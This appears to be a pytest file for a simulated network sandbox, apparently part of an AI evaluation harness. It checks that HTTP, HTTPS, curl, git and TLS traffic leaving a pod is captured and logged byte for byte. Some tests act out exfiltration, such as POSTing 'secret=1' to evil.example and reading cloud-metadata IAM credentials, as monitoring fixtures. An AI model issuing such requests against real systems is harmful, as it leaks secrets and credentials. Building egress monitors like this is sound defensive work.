"""The sinks of HTTP, HTTPS and git."""

from __future__ import annotations

import base64
import time
from typing import Any

import pytest

pytestmark = pytest.mark.docker


def test_http_by_name_is_told_with_its_bytes(world: Any, client: Any) -> None:
    """A GET by name makes a DNS event and an egress event, told without being asked for."""
    status, headers, body = client.run('result = fetch("http://shop.example/cart?id=42")')
    events: list[dict[str, Any]] = []
    give_up = time.monotonic() + 10
    while not any(event["event"] == "egress" for event in events) and time.monotonic() < give_up:
        events += world.events(sync=False)
    dns, web = [event for event in events if event["event"] == "dns"], events[-1]
    assert status == 200 and "shop.example" in body and headers["Date"].startswith("Mon, 06 Apr 2026 00:0")
    assert {event["type"] for event in dns} <= {"A", "AAAA"} and dns[0]["name"] == "shop.example"
    assert (web["protocol"], web["host"], web["port"]) == ("http", "shop.example", 80)
    assert web["summary"] == "GET http://shop.example/cart?id=42" and web["source"] == "10.0.2.15"
    assert base64.b64decode(web["payload"]).startswith(b"GET /cart?id=42 HTTP/1.1\r\n")
    assert web["address"] == dns[0]["answer"] and web["address"].startswith("198.1")


def test_https_is_read_by_the_certificate_of_the_episode(world: Any, client: Any) -> None:
    """A POST over TLS verifies against the pod's bundle and is told decrypted."""
    client.run('result = fetch("https://evil.example:8443/in", b"secret=1")')
    (web,) = world.egress()
    assert (web["protocol"], web["host"], web["port"], web["blocked"]) == ("https", "evil.example", 8443, False)
    assert web["payload"].endswith(b"\r\n\r\nsecret=1") and web["size"] == len(web["payload"])
    assert web["summary"] == "POST https://evil.example:8443/in"


def test_curl_by_http_https_bare_address_and_odd_port(world: Any, client: Any) -> None:
    """Curl, which trusts the bundle by its environment, is answered at any address and port."""
    for url in ("http://a.example/", "https://b.example/x", "http://203.0.113.9:8080/y", "https://203.0.113.9/z"):
        done = client.run(f'result = subprocess.run(["curl", "-sS", "{url}"], capture_output=True, text=True).stdout')
        assert "<h1>" in done, url
        assert world.egress()[-1]["summary"] in (f"GET {url}", f"GET {url} HTTP/2")


def test_keep_alive_makes_one_event_a_request(world: Any, client: Any) -> None:
    """Requests of one connection are told apart, byte for byte, pipelined ones too."""
    client.run("""
connection = http.client.HTTPConnection("keep.example", timeout=5)
for number in range(3):
    connection.request("POST", f"/{number}", body=b"x" * number)
    connection.getresponse().read()
connection.close()
""")
    three = world.egress()
    assert [event["summary"][-2:] for event in three] == ["/0", "/1", "/2"]
    assert len({event["connection"] for event in three}) == 1
    one, two = b"GET /one HTTP/1.1\r\nHost: p\r\n\r\n", b"GET /two HTTP/1.1\r\nHost: p\r\nConnection: close\r\n\r\n"
    client.run(f'talk("203.0.113.8", 80, {one + two!r})')
    events = world.egress()
    assert [event["payload"] for event in events] == [one, two]
    assert {event["host"] for event in events} == {"p at 203.0.113.8"}


def test_chunked_and_compressed_bodies_are_told_as_sent(world: Any, client: Any) -> None:
    """The payload is what went over the wire, not what it decodes to."""
    client.run("""
import gzip
connection = http.client.HTTPConnection("raw.example", timeout=5)
packed = gzip.compress(b"secret" * 100, mtime=0)
connection.request("POST", "/", body=iter([packed]), headers={"Content-Encoding": "gzip"}, encode_chunked=True)
result = connection.getresponse().status
""")
    (event,) = world.egress()
    assert b"Transfer-Encoding: chunked" in event["payload"] and b"\x1f\x8b" in event["payload"]


def test_a_large_upload_comes_in_parts_and_is_capped(world: Any, client: Any) -> None:
    """Ten megabytes are told in parts of at most 256 KiB, 8 MiB in all; sizes count every byte."""
    client.run('fetch("http://big.example/up", b"0123456789" * (1 << 20))')
    events = world.events()
    parts = [event for event in events if event["event"] == "egress"]
    kept = [len(base64.b64decode(event["payload"])) for event in parts]
    assert max(kept) <= 256 * 1024 and sum(kept) == 8 << 20
    assert sum(event["size"] for event in parts) > 10 << 20
    assert {event["summary"] for event in parts} == {"POST http://big.example/up"}
    assert any(event["event"] == "overflow" and event["what"] == "payload bytes" for event in events)


def test_declared_sites_answer_as_declared(world: Any, client: Any) -> None:
    """Pages, prefixes, redirects, files, listings, headers, and the 404 of what is not there."""
    assert client.run('result = fetch("https://cdn.example/")')[2] == "<h1>welcome</h1>"
    assert client.run('result = fetch("https://eu.cdn.example/old")')[2] == "<h1>welcome</h1>"
    status, headers, body = client.run('result = fetch("http://cdn.example/api/v1/x?q=1")')
    assert (status, headers["X-Y"], body) == (202, "z", '{"n": 1}')
    status, headers, body = client.run('result = fetch("http://cdn.example/logo.png")')
    assert (headers["Content-Type"], body) == ("image/png", "not really a png")
    listing = client.run('result = fetch("http://cdn.example/files/")')[2]
    assert 'href="a/"' in listing and 'href="two.txt"' in listing and "one.txt" not in listing
    assert "404" in client.run('fetch("http://cdn.example/missing")', fails=True)
    assert client.run('result = fetch("http://169.254.169.254/latest/meta-data/iam/")')[2] == "AKIAEXAMPLE"
    assert world.egress()[-1]["address"] == "169.254.169.254"


def test_undeclared_hosts_answer_plausibly(world: Any, client: Any) -> None:
    """Images for images, JSON for JSON, a page for a page; one server name a host."""
    image = client.run('result = fetch("http://t.example/p.gif?d=1")')
    assert image[1]["Content-Type"] == "image/gif" and image[2].startswith("GIF89a")
    assert client.run('result = fetch("http://t.example/p.png")')[2][1:4] == "PNG"
    api = client.run("""result = fetch("http://t.example/hook", b"{}", {"Content-Type": "application/json"})""")
    assert api[1]["Content-Type"] == "application/json" and '"status": "ok"' in api[2]
    page = client.run('result = fetch("http://t.example/")')
    assert page[1]["Content-Type"] == "text/html; charset=utf-8" and page[1]["Server"] == image[1]["Server"]


def test_git_push_works_and_is_told(world: Any, client: Any) -> None:
    """A push over https makes the repository; a clone of it has what was pushed; the pack is in the payload."""
    script = """
set -e
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b
rm -rf /work/repo /work/copy && mkdir /work/repo && cd /work/repo && git init -q -b main
echo hello > file && git add file && git commit -qm first
git push -q https://git.example/team/project.git main 2>&1
git clone -q https://git.example/team/project.git /work/copy 2>&1
cat /work/copy/file
rm -rf /work/repo /work/copy
"""
    out = client.run(f'result = subprocess.run(["bash", "-c", {script!r}], capture_output=True, text=True).stdout')
    events = world.egress()
    assert out.strip().endswith("hello")
    assert {event["protocol"] for event in events} == {"git"}
    push = next(event for event in events if "project.git/git-receive-pack" in event["summary"] and event["size"] > 400)
    assert b"PACK" in push["payload"] and b"refs/heads/main" in push["payload"]


def test_a_client_that_rejects_the_certificate_is_told(world: Any, client: Any) -> None:
    """Who trusts other authorities shows at least where he wanted to go."""
    client.run("""
import ssl
context = ssl.create_default_context(cadata=open("/etc/ssl/certs/ca-certificates.crt").read())
try:
    context.wrap_socket(socket.create_connection(("203.0.113.20", 443)), server_hostname="pinned.example")
except ssl.SSLError as error:
    result = str(error)
""")
    (event,) = world.egress()
    assert (event["protocol"], event["host"]) == ("tls", "pinned.example at 203.0.113.20")
    assert "handshake failed" in event["summary"] and event["payload"][:2] == b"\x16\x03"


def test_a_wrong_page_is_refused_by_name(start: Any) -> None:
    """What is not of the documented shape is named when it is declared, not when it is asked for."""
    with pytest.raises(LookupError, match=r"site cdn\.example: page /x:"):
        start(sites=[{"host": "cdn.example", "pages": {"/x": {"base64": "%%%"}}}])


def test_a_second_configure_is_refused(world: Any) -> None:
    """A pod serves one episode."""
    with pytest.raises(LookupError, match="one episode"):
        world.op("configure", names={}, services={}, sites=[], egress_allow=None, seed=1, domain="x.example")
